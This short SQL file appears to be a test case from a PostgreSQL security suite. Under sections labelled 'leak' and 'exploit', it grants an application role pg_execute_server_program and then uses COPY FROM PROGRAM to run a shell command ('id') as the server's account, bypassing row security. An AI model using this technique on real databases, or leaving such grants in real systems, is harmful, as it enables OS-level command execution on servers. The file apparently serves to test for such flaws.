-- A program that runs as the server's account is beyond row security.
-- object: role:{app}
-- base: other-schema
--- leak
RESET ROLE;
GRANT pg_execute_server_program TO {app};
--- exploit
CREATE TEMP TABLE lines (line text);
COPY lines FROM PROGRAM 'id';
SELECT line FROM lines;
